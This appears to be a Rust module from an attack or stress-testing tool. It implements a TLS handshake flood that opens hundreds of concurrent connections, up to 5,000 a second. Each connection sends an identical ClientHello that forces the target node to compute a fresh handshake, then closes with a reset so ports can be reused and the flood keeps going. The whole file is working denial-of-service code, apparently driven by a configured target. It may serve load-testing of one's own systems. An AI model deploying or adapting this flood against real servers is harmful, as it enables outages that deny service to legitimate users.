//! A connection flood: handshakes that make the node calculate, by clients that do not.

use std::sync::Arc;
use std::time::Duration;

use rustls::{ClientConfig, ClientConnection};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::Attack;
use crate::shield::speaker;

/// Connections at once.
pub(super) const AT_ONCE: u32 = 512;
/// As many a second, at the most.
pub(super) const CONNECTIONS_S: u32 = 5_000;
/// How long an answer is waited for.
const WAIT: Duration = Duration::from_millis(200);

/// One connection after the other: the same hello on each, which the node has to answer anew.
pub(super) async fn attack(attack: Arc<Attack>, number: usize) {
    let hello = hello(&attack.tls);
    let mut heard = [0; 64];
    loop {
        attack.floods.turn(1).await;
        let mut stream = attack.dial(number, attack.orders.target.tls).await;
        if stream.write_all(&hello).await.is_ok() {
            let told = tokio::time::timeout(WAIT, stream.read(&mut heard)).await;
            if !matches!(told, Ok(Ok(1..))) {
                attack.ended();
            }
        }
        // With a reset: nothing of it stays here, and so as many can follow as there are ports.
        let _ = stream.set_zero_linger();
    }
}

/// A client's first flight.
pub(super) fn hello(config: &Arc<ClientConfig>) -> Vec<u8> {
    let mut bytes = Vec::new();
    let session = speaker::server_name()
        .ok()
        .and_then(|name| ClientConnection::new(Arc::clone(config), name).ok());
    if let Some(mut session) = session {
        // A vector takes everything.
        let _ = session.write_tls(&mut bytes);
    }
    bytes
}
